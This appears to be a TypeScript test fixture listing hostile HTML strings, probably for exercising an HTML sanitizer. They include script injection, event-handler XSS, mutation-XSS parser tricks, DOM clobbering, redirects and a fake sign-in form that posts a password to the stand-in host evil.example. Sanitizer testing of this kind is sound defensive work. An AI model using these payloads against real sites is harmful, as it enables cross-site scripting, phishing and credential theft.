/** HTML that runs, loads, leads away or pretends, wherever it is let: each in its own way. */

const RUN = 'window.ran=1';
const FROM = 'https://evil.example';

/** The pieces of one message. */
export const HOSTILE_HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${FROM}/a.js"></script>`,
  `<img src="${FROM}/pixel.gif" onerror="${RUN}" srcset="${FROM}/2x.gif 2x">`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload="${RUN}"><script>${RUN}</script><image href="${FROM}/i.png"/><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><style><img src="</style><img src=x onerror=${RUN}>"></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></mtext></math>`,
  `<iframe src="${FROM}/frame"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${FROM}/o"></object><embed src="${FROM}/e">`,
  `<link rel="stylesheet" href="${FROM}/s.css"><link rel="preload" as="image" href="${FROM}/p.png"><link rel="dns-prefetch" href="${FROM}">`,
  `<style>@import url(${FROM}/i.css); body{background:url(${FROM}/b.png)} main{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(${FROM}/d.png)">over everything</div>`,
  `<table background="${FROM}/t.png"><tr><td background="${FROM}/c.png" colspan="2" onclick="${RUN}">cell</td></tr></table>`,
  `<meta http-equiv="refresh" content="0;url=${FROM}/away"><base href="${FROM}/">`,
  `<a href="javascript:${RUN}">run</a> <a href="${FROM}/login">your bank</a> <a href="data:text/html,<script>${RUN}</script>" target="_top">data</a>`,
  `<form action="${FROM}/steal"><input name="password" autofocus onfocus="${RUN}"><button formaction="${FROM}/b">Sign in again</button></form>`,
  `<video src="${FROM}/v.mp4" poster="${FROM}/p.jpg" autoplay onloadstart="${RUN}"></video><audio src="${FROM}/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${RUN}"><summary>more</summary>x</details><marquee onstart="${RUN}">m</marquee>`,
  `<body onload="${RUN}"><p onmouseover="${RUN}" onanimationstart="${RUN}" class="govuk-button" id="main">a part of the page?</p>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><textarea></textarea><img src=x onerror=${RUN}>`,
  `<h1>You are signed out</h1><dialog open>Sign in</dialog><portal src="${FROM}"></portal>`,
  `<img name="body"><img name="cookie"><form id="documentElement"></form><a id="location" href="${FROM}">clobber</a>`,
  `<isindex action="${FROM}" type=image><keygen autofocus onfocus=${RUN}><select onfocus=${RUN} autofocus></select>`,
  `<b>bold</b><br><p>the last of them</p>`,
];

/** Those that swallow whatever follows: each is a message of its own. */
export const SWALLOWING: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
];
